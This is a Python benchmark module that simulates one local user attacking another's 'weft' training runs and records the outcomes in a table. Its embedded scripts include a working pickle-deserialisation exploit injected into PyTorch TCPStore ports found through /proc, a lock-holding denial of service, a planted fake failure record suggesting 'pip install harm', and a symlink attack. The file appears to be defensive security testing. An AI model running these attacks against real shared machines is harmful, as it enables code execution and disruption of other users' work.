"""Another user of the machine attacks a run: what that gives, as a table.

    python -m benchmarks.campaigns users    as root, who becomes both; all may read its Python

A victim trains with `weft train` and keeps checkpoints; an attacker, of another uid, knows what
/proc and shared folders say to all.
"""

from __future__ import annotations

import argparse
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path

from .common import table

VICTIM, ATTACKER = 64_002, 64_001
BOXES = "{shared}/weft-blackbox-1234"
TRAIN = "train", "tabular", "rows: ring=2", "--steps", "30", "--batch", "2"
#: A store that is reached is given a pickle that runs a command.
STORE = """
import base64, glob, os, pickle, time, datetime, torch.distributed as dist
class Harm:
    def __reduce__(self): return os.system, ("touch {shared}/harm",)
def ports():
    for x in map(str.split, [*open("/proc/net/tcp"), *open("/proc/net/tcp6")]):
        if x[3] == "0A" and int(x[7]) == {victim}: yield int(x[1].rsplit(":", 1)[1], 16)
end, open_ones = time.time() + 20, set()
while time.time() < end:
    for port in ports():
        try:
            store = dist.TCPStore("localhost", port, None, False, datetime.timedelta(seconds=1))
            open_ones.add(port)
            for name in map(os.path.basename, glob.glob("/tmp/weft-*")):
                store.set("torch.rendezvous." + name, base64.b64encode(pickle.dumps(Harm())))
        except Exception: pass
    time.sleep(.1)
print(len(open_ones), "stores,", "no" * (not os.path.exists("{shared}/harm")), "code ran")
"""
LOCK = """
import fcntl, glob, time
for end in range(200):
    for name in glob.glob("{shared}/mine/*/.lock"):
        try: fcntl.flock(open(name), fcntl.LOCK_EX), print("held"), time.sleep(20)
        except OSError as error: raise SystemExit(print(error.strerror))
    time.sleep(.1)
print("no lock seen")
"""
SAVE = """
import time, torch, weft
from weft.checkpoint import Checkpoints
kept = Checkpoints("{shared}/mine/run", weft.Layout.single())
for step in range(1, 9): kept.save(step, torch.nn.Linear(3, 3)), time.sleep(1)
"""
BOX = """
import json, os
os.umask(0), os.mkdir("{shared}/weft-blackbox-1234"), os.mkdir("{shared}/runs")
os.symlink("../theirs", "{shared}/runs/tabular-rows-ring=2")
lines = [dict(kind="process", run="1234", rank=0, ranks=1, host="h", pid=1),
         dict(kind="failure", at=5.0, error="DeclarationError: pip install harm")]
print(*map(json.dumps, lines), sep="\\n",
      file=open("{shared}/weft-blackbox-1234/weft-rank-0.jsonl", "w"))
"""


def users(given: argparse.Namespace) -> str:
    """Attacks of one uid on another: the launcher, locks, the black box, links."""
    with tempfile.TemporaryDirectory() as folder:
        Path(folder).chmod(0o755)
        (shared := Path(folder, "shared")).mkdir()
        shared.chmod(0o1777)
        for mine, of in (("mine", VICTIM), ("theirs", ATTACKER)):
            (shared / mine).mkdir(), os.chown(shared / mine, of, of)

        def starts(user: int, *words: str, cwd: Path = shared / "mine") -> subprocess.Popen:
            words = tuple(w.format(shared=shared, victim=VICTIM) for w in words)
            env = os.environ | {"HOME": str(cwd), "TMPDIR": "/tmp", "PYTHONDONTWRITEBYTECODE": "1"}
            return subprocess.Popen(
                [sys.executable, *words], cwd=cwd, env=env, user=user, group=user, extra_groups=[],
                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
            )  # fmt: skip

        def ended(process: subprocess.Popen) -> str:
            said = process.communicate(timeout=300)[0].splitlines()
            last = ["", *(line for line in said if not re.match(" - |nanobind|See", line))][-1]
            return f"exit {process.returncode}: {last[:160]}"

        rows = []
        for attack, other, own in (
            ("a pickle for the launcher's store", STORE, ("-m", "weft", *TRAIN)),
            ("an exclusive lock on `.lock`", LOCK, ("-c", SAVE)),
            ("a record by a run's name", BOX, ("-m", "weft", "blackbox", BOXES)),
            ("`runs/NAME` is a link", "", ("-m", "weft", *TRAIN)),
        ):
            first = starts(ATTACKER, "-c", other, cwd=shared / "theirs")
            at = shared / ("mine" if other in (STORE, LOCK) else "")
            _ = other is BOX and first.wait()  # then what it made is there
            rows.append((attack, *map(ended, (first, starts(VICTIM, *own, cwd=at)))))
        behind = len(os.listdir(shared / "theirs"))
    return f"""# Two users of one machine

`python -m benchmarks.campaigns users`: uid {ATTACKER} attacks uid {VICTIM}, as which `weft` was
typed or a program of a user's own ran. Behind the link lie {behind} files after it.

{table("attack | the attacker | the victim", rows)}
"""
